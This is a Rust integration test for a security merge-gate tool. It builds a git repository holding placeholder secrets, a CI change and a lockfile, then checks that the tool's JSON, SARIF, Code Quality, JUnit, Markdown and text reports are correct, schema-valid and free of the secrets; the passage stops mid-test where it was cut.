//! Every report format on real gate runs: a git repository built with git2, judged by the
//! built-in baseline policy (extended by the repository's own exceptions), rendered in each
//! format and checked against the schemas in `tests/fixtures/schemas/` and
//! `schemas/gate-result.v1.schema.json`.

use cavra_diff::{ContentLimits, RevisionsRequest};
use cavra_gate::{Approval, GateOptions, Status, Verdict, run_gate};
use cavra_policy::Date;
use cavra_report::{Format, RenderOptions, render};
use git2::{Oid, Repository, Signature, Time};
use serde_json::{Value, json};
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

/// AWS's documented example access key id: the secret that must never reach a report.
const SECRET: &str = "AKIAIOSFODNN7EXAMPLE";
/// The body of the (fake) private key: must never reach a report either.
const KEY_BODY: &str = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
/// A path with a space, non-ASCII characters and an ampersand, and its percent-encoded URI.
const ODD_PATH: &str = "certs/R&D clé privée.pem";
const ODD_URI: &str = "certs/R%26D%20cl%C3%A9%20priv%C3%A9e.pem";

const POLICY: &str = "version: 1
extends: [builtin:baseline]
break_glass: { allowed: true }
exceptions:
  - rule: private-keys
    paths: ['tests/fixtures/**']
    reason: throwaway test keys
    expires: 2099-12-31
  - rule: ci-config
    paths: ['legacy/**']
    reason: old pipelines
    expires: 2020-01-01
";

// ---------------------------------------------------------------------------------------------
// The repository

/// A temporary repository: `main` (the base), `feature` (every kind of finding), `ci-only`
/// (one workflow change that needs approval).
struct Fixture {
    _dir: tempfile::TempDir,
    path: PathBuf,
}

/// Writes `files` as nested trees and returns the root tree.
fn write_tree(repo: &Repository, files: &[(&str, &[u8])]) -> Oid {
    let mut builder = repo.treebuilder(None).unwrap();
    let mut dirs: BTreeMap<&str, Vec<(&str, &[u8])>> = BTreeMap::new();
    for &(path, content) in files {
        match path.split_once('/') {
            Some((dir, rest)) => dirs.entry(dir).or_default().push((rest, content)),
            None => {
                let blob = repo.blob(content).unwrap();
                builder.insert(path, blob, 0o100644).unwrap();
            }
        }
    }
    for (dir, entries) in dirs {
        let tree = write_tree(repo, &entries);
        builder.insert(dir, tree, 0o040000).unwrap();
    }
    builder.write().unwrap()
}

fn commit(repo: &Repository, branch: &str, parent: Option<Oid>, files: &[(&str, &[u8])]) -> Oid {
    let sig = Signature::new("Test", "test@example.com", &Time::new(1_790_000_000, 0)).unwrap();
    let tree = repo.find_tree(write_tree(repo, files)).unwrap();
    let parents: Vec<_> = parent
        .map(|p| repo.find_commit(p).unwrap())
        .into_iter()
        .collect();
    let parents: Vec<_> = parents.iter().collect();
    repo.commit(
        Some(&format!("refs/heads/{branch}")),
        &sig,
        &sig,
        branch,
        &tree,
        &parents,
    )
    .unwrap()
}

fn fixture() -> Fixture {
    let dir = tempfile::tempdir().unwrap();
    let repo = Repository::init(dir.path()).unwrap();
    let pem = format!("-----BEGIN PRIVATE KEY-----\n{KEY_BODY}\n-----END PRIVATE KEY-----\n");
    let config = format!(
        "// settings\npub const REGION: &str = \"eu-west-1\";\npub const KEY: &str = \"{SECRET}\";\n"
    );
    let base_files: Vec<(&str, &[u8])> = vec![
        (".cavra/policy.yaml", POLICY.as_bytes()),
        ("README.md", b"# demo\n"),
        ("src/lib.rs", b"pub fn f() {}\n"),
    ];
    let base = commit(&repo, "main", None, &base_files);

    let mut feature = base_files.clone();
    feature.retain(|(p, _)| *p != "src/lib.rs");
    feature.extend([
        ("src/lib.rs", &b"pub fn f() {}\npub fn g() {}\n"[..]),
        ("keys/server.pem", pem.as_bytes()),
        ("src/config.rs", config.as_bytes()),
        (".github/workflows/ci.yml", b"on: push\njobs: {}\n"),
        ("Cargo.lock", b"version = 3\n"),
        (ODD_PATH, b"placeholder, not a key\n"),
        ("tests/fixtures/test.pem", b"test key placeholder\n"),
    ]);
    commit(&repo, "feature", Some(base), &feature);

    let mut ci_only = base_files.clone();
    ci_only.push((".github/workflows/ci.yml", b"on: push\njobs: {}\n"));
    commit(&repo, "ci-only", Some(base), &ci_only);

    repo.set_head("refs/heads/main").unwrap();
    Fixture {
        path: dir.path().to_path_buf(),
        _dir: dir,
    }
}

fn gate(fx: &Fixture, base: &str, head: &str, approvals: Vec<Approval>) -> Verdict {
    run_gate(&options(fx, base, head, approvals), &|_| None).unwrap()
}

fn options(fx: &Fixture, base: &str, head: &str, approvals: Vec<Approval>) -> GateOptions {
    GateOptions {
        repo_path: fx.path.clone(),
        revisions: RevisionsRequest {
            base: Some(base.to_string()),
            head: Some(head.to_string()),
        },
        policy_file: None,
        mode: None,
        approvals,
        break_glass: None,
        today: Date::parse("2026-11-23").unwrap(),
        threads: 2,
        content_limits: ContentLimits::default(),
        tool_version: "0.0.0-test".to_string(),
    }
}

/// Every format, plain, plus the text format in colour.
fn render_all(v: &Verdict) -> BTreeMap<&'static str, String> {
    let plain = RenderOptions::default();
    let mut out: BTreeMap<&'static str, String> = Format::NAMES
        .iter()
        .map(|&name| {
            (
                name,
                render(v, Format::parse(name).unwrap(), &plain).unwrap(),
            )
        })
        .collect();
    let color = RenderOptions {
        color: true,
        ..RenderOptions::default()
    };
    out.insert("text+color", render(v, Format::Text, &color).unwrap());
    out
}

// ---------------------------------------------------------------------------------------------
// Schemas

fn workspace() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .unwrap()
        .to_path_buf()
}

fn load_json(relative: &str) -> Value {
    let path = workspace().join(relative);
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path:?}: {e}"));
    serde_json::from_str(&text).unwrap_or_else(|e| panic!("{path:?}: {e}"))
}

struct Schemas {
    gate: jsonschema::Validator,
    sarif: jsonschema::Validator,
    codequality: jsonschema::Validator,
    verdict: jsonschema::Validator,
}

fn validator(relative: &str) -> jsonschema::Validator {
    let schema = load_json(relative);
    jsonschema::meta::validate(&schema).unwrap_or_else(|e| panic!("{relative}: {e}"));
    jsonschema::options()
        .should_validate_formats(true)
        .build(&schema)
        .unwrap_or_else(|e| panic!("{relative}: {e}"))
}

fn schemas() -> Schemas {
    Schemas {
        gate: validator("schemas/gate-result.v1.schema.json"),
        sarif: validator("tests/fixtures/schemas/sarif-2.1.0.schema.json"),
        codequality: validator("tests/fixtures/schemas/codequality.derived.schema.json"),
        verdict: validator("schemas/gate-verdict.v1.schema.json"),
    }
}

fn errors(v: &jsonschema::Validator, doc: &Value) -> Vec<String> {
    v.iter_errors(doc)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .collect()
}

fn assert_valid(v: &jsonschema::Validator, doc: &Value, what: &str) {
    let errors = errors(v, doc);
    assert!(errors.is_empty(), "{what} does not validate: {errors:#?}");
}

// ---------------------------------------------------------------------------------------------
// A small XML 1.0 well-formedness checker (elements, attributes, references, comments,
// processing instructions, CDATA) that builds a tree for the assertions.

#[derive(Debug)]
struct Element {
    name: String,
    attrs: BTreeMap<String, String>,
    children: Vec<Element>,
    text: String,
}

impl Element {
    fn attr(&self, name: &str) -> &str {
        self.attrs
            .get(name)
            .unwrap_or_else(|| panic!("<{}> has no {name}", self.name))
    }

    fn all<'a>(&'a self, name: &'a str) -> impl Iterator<Item = &'a Element> + 'a {
        self.children.iter().filter(move |c| c.name == name)
    }

    fn child(&self, name: &str) -> Option<&Element> {
        self.children.iter().find(|c| c.name == name)
    }
}

fn xml_char_ok(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{d7ff}' | '\u{e000}'..='\u{fffd}' | '\u{10000}'..)
}

fn name_char(c: char, first: bool) -> bool {
    c.is_alphabetic()
        || c == '_'
        || c == ':'
        || (!first && (c.is_numeric() || c == '-' || c == '.'))
}

struct XmlParser<'a> {
    s: &'a str,
    pos: usize,
}

impl XmlParser<'_> {
    fn rest(&self) -> &str {
        &self.s[self.pos..]
    }

    fn err<T>(&self, what: &str) -> Result<T, String> {
        Err(format!(
            "{what} at byte {}: {:?}",
            self.pos,
            &self.rest().chars().take(30).collect::<String>()
        ))
    }

    fn eat(&mut self, token: &str) -> bool {
        if self.rest().starts_with(token) {
            self.pos += token.len();
            true
        } else {
            false
        }
    }

    fn skip_ws(&mut self) {
        let n = self.rest().len()
            - self
                .rest()
                .trim_start_matches([' ', '\t', '\n', '\r'])
                .len();
        self.pos += n;
    }

    fn until(&mut self, end: &str) -> Result<String, String> {
        match self.rest().find(end) {
            Some(i) => {
                let out = self.rest()[..i].to_string();
                self.pos += i + end.len();
                Ok(out)
            }
            None => self.err(&format!("missing `{end}`")),
        }
    }

    fn name(&mut self) -> Result<String, String> {
        let mut end = 0;
        for (i, c) in self.rest().char_indices() {
            if !name_char(c, i == 0) {
                break;
            }
            end = i + c.len_utf8();
        }
        if end == 0 {
            return self.err("expected a name");
        }
        let name = self.rest()[..end].to_string();
        self.pos += end;
        Ok(name)
    }

    /// Character data or an attribute value, with references resolved.
    fn unescape(&self, raw: &str, in_attr: bool) -> Result<String, String> {
        let mut out = String::new();
        let mut rest = raw;
        while let Some(i) = rest.find(['&', '<']) {
            out.push_str(&rest[..i]);
            if rest[i..].starts_with('<') {
                return self.err(if in_attr {
                    "`<` in an attribute"
                } else {
                    "stray `<`"
                });
            }
            let end = rest[i..].find(';').ok_or("`&` without `;`")?;
            let entity = &rest[i + 1..i + end];
            let c = match entity {
                "amp" => '&',
                "lt" => '<',
                "gt" => '>',
                "quot" => '"',
                "apos" => '\'',
                e if e.starts_with("#x") => u32::from_str_radix(&e[2..], 16)
                    .ok()
                    .and_then(char::from_u32)
                    .ok_or(format!("bad reference &{e};"))?,
                e if e.starts_with('#') => e[1..]
                    .parse::<u32>()
                    .ok()
                    .and_then(char::from_u32)
                    .ok_or(format!("bad reference &{e};"))?,
                e => return Err(format!("unknown entity &{e};")),
            };
            if !xml_char_ok(c) {
                return Err(format!("reference to a forbidden character {:?}", c));
            }
            out.push(c);
            rest = &rest[i + end + 1..];
        }
        out.push_str(rest);
        Ok(out)
    }

    /// Comments, processing instructions and whitespace between markup.
    fn misc(&mut self) -> Result<(), String> {
        loop {
            self.skip_ws();
            if self.eat("<!--") {
                let body = self.until("-->")?;
                if body.contains("--") {
                    return self.err("`--` in a comment");
                }
            } else if self.rest().starts_with("<?") {
                self.pos += 2;
                self.until("?>")?;
            } else {
                return Ok(());
            }
        }
    }

    fn element(&mut self) -> Result<Element, String> {
        if !self.eat("<") {
            return self.err("expected `<`");
        }
        let name = self.name()?;
        let mut attrs = BTreeMap::new();
        loop {
            let before = self.pos;
            self.skip_ws();
            if self.eat("/>") {
                return Ok(Element {
                    name,
                    attrs,
                    children: Vec::new(),
                    text: String::new(),
                });
            }
            if self.eat(">") {
                break;
            }
            if self.pos == before {
                return self.err("expected whitespace before an attribute");
            }
            let key = self.name()?;
            self.skip_ws();
            if !self.eat("=") {
                return self.err("expected `=`");
            }
            self.skip_ws();
            let quote = if self.eat("\"") {
                "\""
            } else if self.eat("'") {
                "'"
            } else {
                return self.err("expected a quoted value");
            };
            let raw = self.until(quote)?;
            let value = self.unescape(&raw, true)?;
            if attrs.insert(key.clone(), value).is_some() {
                return self.err(&format!("attribute {key} repeated"));
            }
        }
        let mut element = Element {
            name,
            attrs,
            children: Vec::new(),
            text: String::new(),
        };
        loop {
            let i = self.rest().find('<').ok_or("unclosed element")?;
            let raw = self.rest()[..i].to_string();
            if raw.contains("]]>") {
                return self.err("`]]>` in text");
            }
            element.text.push_str(&self.unescape(&raw, false)?);
            self.pos += i;
            if self.eat("</") {
                let end = self.name()?;
                self.skip_ws();
                if end != element.name || !self.eat(">") {
                    return self.err(&format!("</{end}> closes <{}>", element.name));
                }
                return Ok(element);
            } else if self.eat("<![CDATA[") {
                let data = self.until("]]>")?;
                element.text.push_str(&data);
            } else if self.rest().starts_with("<!--") || self.rest().starts_with("<?") {
                self.misc()?;
            } else {
                element.children.push(self.element()?);
            }
        }
    }
}

/// Parses a whole document: declaration, one root element, nothing else but comments.
fn parse_xml(s: &str) -> Result<Element, String> {
    if let Some(c) = s.chars().find(|&c| !xml_char_ok(c)) {
        return Err(format!("character {c:?} is not allowed in XML 1.0"));
    }
    let mut p = XmlParser { s, pos: 0 };
    if p.rest().starts_with("<?xml") {
        p.until("?>")?;
    }
    p.misc()?;
    let root = p.element()?;
    p.misc()?;
    if !p.rest().is_empty() {
        return p.err("content after the root element");
    }
    Ok(root)
}

// ---------------------------------------------------------------------------------------------
// Checks shared by the tests

fn assert_no_secrets(outputs: &BTreeMap<&str, String>) {
    for (format, text) in outputs {
        assert!(!text.contains(SECRET), "{format} output holds the secret");
        assert!(
            !text.contains(KEY_BODY),
            "{format} output holds the private key"
        );
    }
}

fn assert_ansi(outputs: &BTreeMap<&str, String>) {
    for (format, text) in outputs {
        if *format == "text+color" {
            assert!(text.contains("\x1b["), "colour text has no ANSI escapes");
        } else {
            assert!(
                !text.contains('\x1b'),
                "{format} output holds an ANSI escape"
            );
        }
    }
}

/// Validates the JSON output and checks it is the verdict itself; checks the verdict's in-toto
/// Statement too.
fn check_json(s: &Schemas, v: &Verdict, json_text: &str) -> Value {
    let doc: Value = serde_json::from_str(json_text).unwrap();
    assert_valid(&s.gate, &doc, "the JSON output");
    assert_eq!(doc, serde_json::to_value(v).unwrap());
    check_statement(s, v);
    doc
}

/// The verdict's in-toto Statement: valid against its schema, about the head commit, with the
/// same verdict, counts and findings as the gate result, and no secrets.
fn check_statement(s: &Schemas, v: &Verdict) -> Value {
    let statement = cavra_attestation::verdict::statement(v);
    let bytes = statement.to_json();
    let parsed = cavra_attestation::statement::Statement::from_json(&bytes).unwrap();
    let doc: Value = serde_json::from_slice(&bytes).unwrap();
    assert_valid(&s.verdict, &doc, "the verdict Statement");
    assert_eq!(
        doc["subject"][0]["digest"]["gitCommit"],
        json!(v.revisions.head)
    );
    assert_eq!(
        cavra_attestation::verdict::verdict_of(&parsed),
        Some((v.verdict, v.revisions.head.clone()))
    );
    let p = &doc["predicate"];
    assert_eq!(p["verdict"], json!(v.verdict.as_str()));
    assert_eq!(p["mergeBase"], json!(v.revisions.merge_base));
    assert_eq!(p["policy"]["sha256"], json!(v.policy.sha256));
    assert_eq!(p["counts"]["deny"], json!(v.counts.deny));
    let not_allowed = v
        .findings()
        .filter(|(_, f)| f.decision != cavra_policy::Decision::Allow || f.waived.is_some())
        .count();
    assert_eq!(p["findings"].as_array().unwrap().len(), not_allowed);
    let text = String::from_utf8(bytes).unwrap();
    assert!(!text.contains(SECRET) && !text.contains(KEY_BODY), "{text}");
    doc
}

/// The results of a SARIF log as (ruleId, level, uri, startLine).
fn sarif_results(log: &Value) -> Vec<(String, String, String, u64)> {
    log["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            let loc = &r["locations"][0]["physicalLocation"];
            (
                r["ruleId"].as_str().unwrap().to_string(),
                r["level"].as_str().unwrap().to_string(),
                loc["artifactLocation"]["uri"].as_str().unwrap().to_string(),
                loc["region"]["startLine"].as_u64().unwrap(),
            )
        })
        .collect()
}

fn owned(rows: &[(&str, &str, &str, u64)]) -> Vec<(String, String, String, u64)> {
    rows.iter()
        .map(|&(a, b, c, d)| (a.into(), b.into(), c.into(), d))
        .collect()
}

/// Testcases of the JUnit document as (classname, name, outcome).
fn junit_cases(root: &Element) -> Vec<(String, String, &'static str)> {
    let suite = root.child("testsuite").unwrap();
    suite
        .all("testcase")
        .map(|case| {
            let outcome = if let Some(f) = case.child("failure") {
                if f.attr("type") == "require_approval" {
                    "failure:require_approval"
                } else {
                    "failure"
                }
            } else if case.child("skipped").is_some() {
                "skipped"
            } else {
                "passed"
            };
            (
                case.attr("classname").to_string(),
                case.attr("name").to_string(),
                outcome,
            )
        })
        .collect()
}

/// Checks the JUnit counts agree with the test cases, and returns the suite.
fn check_junit(xml: &str) -> Element {
    let root = parse_xml(xml).unwrap_or_else(|e| panic!("JUnit is not well-formed: {e}\n{xml}"));
    assert_eq!(root.name, "testsuites");
    assert_eq!(root.all("testsuite").count(), 1);
    let suite = root.child("testsuite").unwrap();
    assert_eq!(suite.attr("name"), "cavra gate");
    let cases: Vec<&Element> = suite.all("testcase").collect();
    let failures = cases
        .iter()
        .filter(|c| c.child("failure").is_some())
        .count();
    let skipped = cases
        .iter()
        .filter(|c| c.child("skipped").is_some())
        .count();
    for element in [&root, suite] {
        assert_eq!(element.attr("tests"), cases.len().to_string());
        assert_eq!(element.attr("failures"), failures.to_string());
        assert_eq!(element.attr("skipped"), skipped.to_string());
        assert_eq!(element.attr("errors"), "0");
    }
    root
}

// ---------------------------------------------------------------------------------------------
// The tests

#[test]
fn every_format_on_a_change_with_every_kind_of_finding() {
    let fx = fixture();
    let s = schemas();
    let v = gate(&fx, "main", "feature", Vec::new());
    assert_eq!(v.verdict, Status::Fail);
    assert_eq!(v.pending_approvals, ["security"]);
    assert_eq!(v.expired_exceptions.len(), 1, "{:?}", v.expired_exceptions);
    let c = &v.counts;
    assert_eq!(
        (
            c.changes,
            c.deny,
            c.require_approval,
            c.audit,
            c.allow,
            c.waived
        ),
        (7, 4, 1, 1, 1, 1),
        "{c:?}"
    );
    let out = render_all(&v);
    assert_no_secrets(&out);
    assert_ansi(&out);

    // JSON: the verdict, valid against our schema, which rejects what it does not describe.
    let mut doc = check_json(&s, &v, &out["json"]);
    // The Statement's schema rejects what it does not describe, and a subject that is not a commit.
    let mut st = check_statement(&s, &v);
    assert_eq!(st["predicate"]["findings"].as_array().unwrap().len(), 7);
    st["predicate"]["findings"][0]["surprise"] = json!(true);
    assert!(!errors(&s.verdict, &st).is_empty());
    let mut st = check_statement(&s, &v);
    st["subject"][0]["digest"]["gitCommit"] = json!("HEAD");
    assert!(!errors(&s.verdict, &st).is_empty());
    doc["changes"][0]["surprise"] = json!(true);
    assert!(
        !errors(&s.gate, &doc).is_empty(),
        "unknown fields must be rejected"
    );
    doc["changes"][0]
        .as_object_mut()
        .unwrap()
        .remove("surprise");
    doc["changes"][0]["findings"][0]["decision"] = json!("maybe");
    assert!(!errors(&s.gate, &doc).is_empty(), "decisions are an enum");

    // SARIF: valid, with the expected results; never allow or waived findings.
    let sarif: Value = serde_json::from_str(&out["sarif"]).unwrap();
    assert_valid(&s.sarif, &sarif, "the SARIF log");
    assert_eq!(sarif["version"], "2.1.0");
    assert_eq!(sarif["runs"].as_array().unwrap().len(), 1);
    assert_eq!(
        sarif_results(&sarif),
        owned(&[
            ("ci-config", "warning", ".github/workflows/ci.yml", 1),
            ("dependency-manifest", "note", "Cargo.lock", 1),
            ("private-keys", "error", ODD_URI, 1),
            ("private-keys", "error", "keys/server.pem", 1),
            ("private-key-block", "error", "keys/server.pem", 1),
            ("cloud-credentials", "error", "src/config.rs", 3),
        ])
    );
    let driver = &sarif["runs"][0]["tool"]["driver"];
    assert_eq!(driver["name"], "cavra");
    let rules: BTreeMap<&str, &str> = driver["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            assert!(!r["shortDescription"]["text"].as_str().unwrap().is_empty());
            (
                r["id"].as_str().unwrap(),
                r["defaultConfiguration"]["level"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        rules,
        BTreeMap::from([
            ("ci-config", "warning"),
            ("cloud-credentials", "error"),
            ("dependency-manifest", "note"),
            ("private-key-block", "error"),
            ("private-keys", "error"),
        ])
    );
    let prints: BTreeSet<&str> = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            r["partialFingerprints"]["cavraFinding/v1"]
                .as_str()
                .unwrap()
        })
        .collect();
    assert_eq!(prints.len(), 6, "fingerprints are unique");
    let again = render(&v, Format::Sarif, &RenderOptions::default()).unwrap();
    assert_eq!(again, out["sarif"], "SARIF is deterministic");
    // The schema really checks: a result on line 0 (GitHub rejects it) or a raw space in a URI
    // must not pass.
    let mut bad = sarif.clone();
    bad["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"] =
        json!(0);
    assert!(
        !errors(&s.sarif, &bad).is_empty(),
        "startLine 0 must be rejected"
    );
    let mut bad = sarif.clone();
    bad["runs"][0]["results"][2]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] =
        json!(ODD_PATH);
    assert!(
        !errors(&s.sarif, &bad).is_empty(),
        "a raw space is not a URI"
    );

    // Code Quality: valid, one issue per shown finding, with GitLab severities.
    let cq: Value = serde_json::from_str(&out["codequality"]).unwrap();
    assert_valid(&s.codequality, &cq, "the Code Quality report");
    let issues: Vec<(&str, &str, &str, u64)> = cq
        .as_array()
        .unwrap()
        .iter()
        .map(|i| {
            (
                i["check_name"].as_str().unwrap(),
                i["severity"].as_str().unwrap(),
                i["location"]["path"].as_str().unwrap(),
                i["location"]["lines"]["begin"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        issues,
        [
            ("ci-config", "critical", ".github/workflows/ci.yml", 1),
            ("dependency-manifest", "minor", "Cargo.lock", 1),
            ("private-keys", "blocker", ODD_PATH, 1),
            ("private-keys", "blocker", "keys/server.pem", 1),
            ("private-key-block", "blocker", "keys/server.pem", 1),
            ("cloud-credentials", "blocker", "src/config.rs", 3),
        ]
    );
    let prints: BTreeSet<&str> = cq
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["fingerprint"].as_str().unwrap())
        .collect();
    assert_eq!(prints.len(), 6);

    // JUnit: well-formed, deny and (while the verdict fails) approval findings fail, the
    // waived finding is skipped, audit passes.
    let root = check_junit(&out["junit"]);
    let cases = junit_cases(&root);
    let expected: Vec<(String, String, &str)> = [
        (
            "cavra.ci-config",
            ".github/workflows/ci.yml",
            "failure:require_approval",
        ),
        ("cavra.dependency-manifest", "Cargo.lock", "passed"),
        ("cavra.private-keys", ODD_PATH, "failure"),
        ("cavra.private-keys", "keys/server.pem", "failure"),
        ("cavra.private-key-block", "keys/server.pem:1", "failure"),
        ("cavra.cloud-credentials", "src/config.rs:3", "failure"),
        ("cavra.private-keys", "tests/fixtures/test.pem", "skipped"),
    ]
    .iter()
    .map(|&(c, n, o)| (c.to_string(), n.to_string(), o))
    .collect();
    assert_eq!(cases, expected);
    assert_eq!(root.attr("failures"), "5");
    let suite = root.child("testsuite").unwrap();
    let audit = suite
        .all("testcase")
        .find(|c| c.attr("name") == "Cargo.lock")
        .unwrap();
    assert!(
        audit
            .child("system-out")
            .unwrap()
            .text
            .starts_with("audit: ")
    );

    // Markdown: the status word, the table rows, audit folded away, approvals, the policy.
    let md = &out["markdown"];
    assert!(md.starts_with("## cavra gate: FAIL\n"), "{md}");
    assert!(md.contains("### Blocking findings (5)\n"), "{md}");
    for row in [
        "| src/config.rs | 3 | cloud-credentials | deny | A cloud or forge credential is added in a text file<br>",
        "| keys/server.pem | 1 | private-key-block | deny |",
        "| keys/server.pem |  | private-keys | deny |",
        "| certs/R\\&D clé privée.pem |  | private-keys | deny |",
        "| .github/workflows/ci.yml |  | ci-config | require\\_approval |",
    ] {
        assert!(md.contains(row), "missing row {row:?} in\n{md}");
    }
    let details = md.find("<details>").expect("audit section");
    assert!(md[details..].contains("| Cargo.lock |  | dependency-manifest |"));
    assert!(md.contains("**Waiting for approval from:** security"));
    assert!(md.contains("- old pipelines: expired 2020-01-01"));
    assert!(md.contains(&format!("sha256 `{}`", v.policy.sha256)));
    assert!(md.contains("1 waived"));

    // Text: grouped, located, counted.
    let text = &out["text"];
    assert!(text.starts_with(&format!(
        "cavra gate: FAIL (mode enforce)  {}..{}  policy .cavra/policy.yaml@",
        &v.revisions.base[..7],
        &v.revisions.head[..7]
    )));
    let deny = text.find("\ndeny (4)\n").expect("deny group");
    let approval = text
        .find("\nrequire approval (1)\n")
        .expect("approval group");
    let audit = text.find("\naudit (1)\n").expect("audit group");
    assert!(deny < approval && approval < audit);
    assert!(text.contains("  src/config.rs:3  cloud-credentials  "));
    assert!(text.contains("      added line 3 matches content pattern"));
    assert!(text.contains("0 findings allowed by a rule, 1 waived by an exception"));
    assert!(text.contains("waiting for approval from: security"));
    assert!(text.ends_with(
        "7 changes, 7 findings: 4 deny, 1 require approval, 1 audit, 1 allowed or waived\n"
    ));
    assert!(out["text+color"].contains("\x1b[1m\x1b[31mdeny (4)\x1b[0m"));
}

#[test]
fn approval_turns_a_waiting_change_into_a_pass() {
    let fx = fixture();
    let s = schemas();
    let waiting = gate(&fx, "main", "ci-only", Vec::new());
    assert_eq!(waiting.verdict, Status::NeedsApproval);
    let out = render_all(&waiting);
    check_json(&s, &waiting, &out["json"]);
    let root = check_junit(&out["junit"]);
    assert_eq!(
        junit_cases(&root),
        [(
            "cavra.ci-config".to_string(),
            ".github/workflows/ci.yml".to_string(),
            "failure:require_approval"
        )]
    );
    assert!(out["markdown"].starts_with("## cavra gate: NEEDS APPROVAL\n"));
    assert!(out["text"].contains("[approvers: security]"));
    assert!(out["text"].contains("waiting for approval from: security"));

    let approval = Approval {
        group: "security".into(),
        approver: "alice".into(),
        commit: String::new(),
    };
    let approved = gate(&fx, "main", "ci-only", vec![approval]);
    assert_eq!(approved.verdict, Status::Pass);
    let out = render_all(&approved);
    check_json(&s, &approved, &out["json"]);
    let root = check_junit(&out["junit"]);
    assert_eq!(
        junit_cases(&root),
        [
            (
                "cavra.ci-config".to_string(),
                ".github/workflows/ci.yml".to_string(),
                "passed"
            ),
            (
                "cavra.changes".to_string(),
                "all changes".to_string(),
                "passed"
            ),
        ]
    );
    // SARIF still reports the finding: it is a fact about the change, approved or not.
    let sarif: Value = serde_json::from_str(&out["sarif"]).unwrap();
    assert_valid(&s.sarif, &sarif, "the SARIF log");
    assert_eq!(
        sarif_results(&sarif),
        owned(&[("ci-config", "warning", ".github/workflows/ci.yml", 1)])
    );
    let md = &out["markdown"];
    assert!(md.starts_with("## cavra gate: PASS\n"), "{md}");
    assert!(md.contains("| require\\_approval \\(approved\\) |"), "{md}");
    assert!(md.contains("- security by alice at "), "{md}");
    assert!(!md.contains("Waiting for approval"));
    assert!(out["text"].contains("[approved]"));
    assert!(out["text"].contains("approved for security by alice"));
}

#[test]
fn break_glass_and_audit_mode_are_reported() {
    let fx = fixture();
    let s = schemas();
    let mut opts = options(&fx, "main", "feature", Vec::new());
    opts.break_glass = Some(("bob".into(), "production outage, hotfix 42".into()));
    let v = run_gate(&opts, &|_| None).unwrap();
    assert_eq!(v.verdict, Status::Pass);
    let out = render_all(&v);
    assert_no_secrets(&out);
    check_json(&s, &v, &out["json"]);
    // The glass is broken, so approval findings no longer fail; deny findings still do.
    let root = check_junit(&out["junit"]);
    let outcomes: Vec<&str> = junit_cases(&root).iter().map(|c| c.2).collect();
    assert_eq!(
        outcomes,
        [
            "passed", "passed", "failure", "failure", "failure", "failure", "skipped"
        ]
    );
    let suite = root.child("testsuite").unwrap();
    let props: BTreeMap<&str, &str> = suite
        .child("properties")
        .unwrap()
        .all("property")
        .map(|p| (p.attr("name"), p.attr("value")))
        .collect();
    assert_eq!(
        props["break_glass"],
        "bob: production outage, hotfix 42 (would have been fail)"
    );
    assert!(out["markdown"].starts_with("## cavra gate: PASS\n"));
    assert!(out["markdown"].contains(
        "**Break-glass** by bob: production outage, hotfix 42 (the verdict would have been FAIL)."
    ));
    assert!(out["text"].contains(
        "\nBREAK-GLASS by bob: production outage, hotfix 42 (the verdict would have been FAIL)\n"
    ));

    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("audit.yaml");
    std::fs::write(
        &policy,
        "version: 1\nextends: [builtin:baseline]\nmode: audit\n",
    )
    .unwrap();
    let mut opts = options(&fx, "main", "feature", Vec::new());
    opts.policy_file = Some(policy);
    let v = run_gate(&opts, &|_| None).unwrap();
    assert_eq!(
        (v.verdict, v.enforced_verdict),
        (Status::Pass, Some(Status::Fail))
    );
    let out = render_all(&v);
    check_json(&s, &v, &out["json"]);
    assert!(out["text"].starts_with("cavra gate: PASS (mode audit; enforce would say FAIL)"));
    assert!(
        out["markdown"].contains("> Audit mode: nothing blocks. Enforce mode would say **FAIL**.")
    );
    let sarif: Value = serde_json::from_str(&out["sarif"]).unwrap();
    assert_valid(&s.sarif, &sarif, "the audit-mode SARIF log");
    // Without the repository's exception, the test key is denied too.
    assert_eq!(sarif_results(&sarif).len(), 7);
}

#[test]
fn an_empty_change_in_every_format() {
    let fx = fixture();
    let s = schemas();
    let v = gate(&fx, "main", "main", Vec::new());
    assert_eq!(v.verdict, Status::Pass);
    assert!(v.changes.is_empty());
    let out = render_all(&v);
    assert_ansi(&out);

    check_json(&s, &v, &out["json"]);

    let sarif: Value = serde_json::from_str(&out["sarif"]).unwrap();
    assert_valid(&s.sarif, &sarif, "the empty SARIF log");
    assert_eq!(sarif["runs"][0]["results"], json!([]));
    assert_eq!(sarif["runs"][0]["tool"]["driver"]["rules"], json!([]));

    let cq: Value = serde_json::from_str(&out["codequality"]).unwrap();
    assert_valid(&s.codequality, &cq, "the empty Code Quality report");
    assert_eq!(cq, json!([]));

    let root = check_junit(&out["junit"]);
    assert_eq!(
        junit_cases(&root),
        [(
            "cavra.changes".to_string(),
            "all changes".to_string(),
            "passed"
        )]
    );
    let suite = root.child("testsuite").unwrap();
    assert_eq!(
        suite
            .child("testcase")
            .unwrap()
            .child("system-out")
            .unwrap()
            .text,
        "no changes"
    );

    let md = &out["markdown"];
    assert!(
        md.starts_with("## cavra gate: PASS\n\nNo changes from `"),
        "{md}"
    );
    assert!(!md.contains("| Path |"));

    assert!(out["text"].contains("\nno changes\n"));
    assert!(out["text"].starts_with("cavra gate: PASS (mode enforce)"));
    assert!(out["text"].ends_with(
        "0 changes, 0 findings: 0 deny, 0 require approval, 0 audit, 0 allowed or waived\n"
    ));
    assert!(out["text+color"].contains("\x1b[1m\x1b[32mPASS\x1b[0m"));
}

#[test]
fn the_xml_checker_accepts_gitlab_junit_and_rejects_broken_xml() {
    let fixture = std::fs::read_to_string(
